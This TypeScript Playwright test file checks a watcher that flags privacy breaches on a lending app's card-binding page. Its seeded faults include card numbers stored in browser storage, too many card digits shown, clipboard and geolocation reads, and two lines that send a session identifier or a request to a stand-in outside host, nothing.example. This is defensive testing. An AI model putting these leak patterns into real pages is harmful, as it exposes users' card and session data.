import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchChromium } from '../support/chromium.ts';
import { guarded } from './guarded.ts';
import { ownStack } from './own-stack.ts';

const { web, lender } = await ownStack();
let browser: Browser;

beforeAll(async () => {
  browser = await launchChromium();
});
afterAll(() => browser.close());

const address = '/bindBank?productId=B-1&userId=U-guarded&deviceId=D-1&sessionId=SES-4711-guarded';

const card = (page: Page) => page.getByRole('textbox', { name: /^Card (or account )?number$/ });
const write = (page: Page, text: string, spoken = '') =>
  page.evaluate(
    (words) => {
      const line = document.createElement('p');
      const heard = document.createElement('span');
      heard.className = 'visually-hidden';
      [heard.textContent = ''] = words;
      line.append(heard, words[1] ?? '');
      document.body.append(line);
    },
    [spoken, text],
  );

/** What a page could do wrong, by the beginning of what is told of it. */
const wrongs: readonly (readonly [told: string, how: string, go: (page: Page) => Promise<unknown>])[] = [
  [
    'P-13 localStorage keeps what was typed',
    'a card number in localStorage',
    async (page) => {
      await card(page).fill('9990000000004321');
      await page.evaluate(() => localStorage.setItem('draft', JSON.stringify({ cardNo: '9990000000004321' })));
      await write(page, 'and on');
    },
  ],
  [
    'P-13 sessionStorage keeps sixteen digits',
    'one in sessionStorage that nobody typed',
    async (page) => {
      await page.evaluate(() => sessionStorage.setItem('a', '4000000000000002'));
      await write(page, 'and on');
    },
  ],
  [
    'P-13 IndexedDB keeps what was typed',
    'one in IndexedDB',
    async (page) => {
      await card(page).fill('9990000000004321');
      await page.evaluate(
        () =>
          new Promise((resolve) => {
            const opening = indexedDB.open('seeded');
            opening.onupgradeneeded = () => opening.result.createObjectStore('all');
            opening.onsuccess = () => {
              const writing = opening.result.transaction('all', 'readwrite');
              writing.objectStore('all').put({ no: '9990000000004321' }, 'card');
              writing.oncomplete = resolve;
            };
          }),
      );
    },
  ],
  [
    'P-13 localStorage keeps the session',
    'the session in localStorage',
    async (page) => {
      await page.evaluate(() => localStorage.setItem('me', 'SES-4711-guarded'));
      await write(page, 'and on');
    },
  ],
  [
    'P-18 /bindBank shows more of a card',
    'five digits of a card on the screen',
    (page) => write(page, 'ending in 01111'),
  ],
  [
    'P-18 /bindBank shows more of a card',
    'five digits of a card that are only spoken',
    (page) => write(page, 'the end of the card', 'ending in 01111'),
  ],
  [
    'P-18 /bindBank shows more of a card',
    'a card in groups',
    async (page) => {
      await card(page).fill('9990 0000 0000 4321');
      await write(page, '9990 0000 0000 4321');
    },
  ],
  [
    'P-33 /bindBank asks for getCurrentPosition',
    'a question where the borrower is',
    (page) => page.evaluate(() => navigator.geolocation.getCurrentPosition(() => undefined)),
  ],
  [
    'P-33 /bindBank asks for readText',
    'a look into the clipboard',
    (page) => page.evaluate(() => navigator.clipboard.readText().catch(() => undefined)),
  ],
  [
    'P-12 an identifier of the session goes to https://nothing.example/',
    'an identifier for another site',
    (page) => page.evaluate(() => location.assign(`https://nothing.example/${location.search}`)),
  ],
  [
    'P-09 /bindBank: connect-src forbids',
    'a call that the headers forbid',
    (page) => page.evaluate(() => fetch('https://nothing.example/pixel').catch(() => undefined)),
  ],
  [
    'P-06 thrown and caught by nobody: seeded',
    'an error that nobody catches',
    (page) => page.evaluate(`setTimeout(() => { throw new Error('seeded'); });\n//# sourceURL=${web}/assets/seeded.js`),
  ],
];

describe('P-06 P-09 P-12 P-13 P-18 P-33 what is watched in every state', () => {
  it('says nothing of a page that does nothing wrong, with a card number in its field', async () => {
    const { browser: watched, breaches } = guarded(browser, { web, lender });
    const context = await watched.newContext();
    const page = await context.newPage();
    await page.goto(`${web}${address}-good`);
    await card(page).fill('9990000000004321');
    await page.getByRole('button', { name: 'Next' }).click();
    expect([...breaches]).toEqual([]);
    await context.close();
  });

  it('P-18 says nothing of a code to pay with that is spoken and shown, where its end and its beginning look like a card', async () => {
    const { browser: watched, breaches } = guarded(browser, { web, lender });
    const context = await watched.newContext();
    const page = await context.newPage();
    await page.goto(`${web}${address}-code`);
    await card(page).waitFor();
    await write(page, '9000380401009', '9 0 0 0, 3 8 0 4, 0 1 0 0 9');
    expect([...breaches]).toEqual([]);
    await context.close();
  });

  it.each(wrongs)('tells “%s” of %s', async (told, _, go) => {
    const { browser: watched, breaches } = guarded(browser, { web, lender });
    const context = await watched.newContext();
    const page = await context.newPage();
    await page.goto(`${web}${address}`);
    await card(page).waitFor();
    await go(page);
    await expect.poll(() => [...breaches].filter((breach) => breach.startsWith(told)).length).toBeGreaterThan(0);
    await context.close();
  });
});
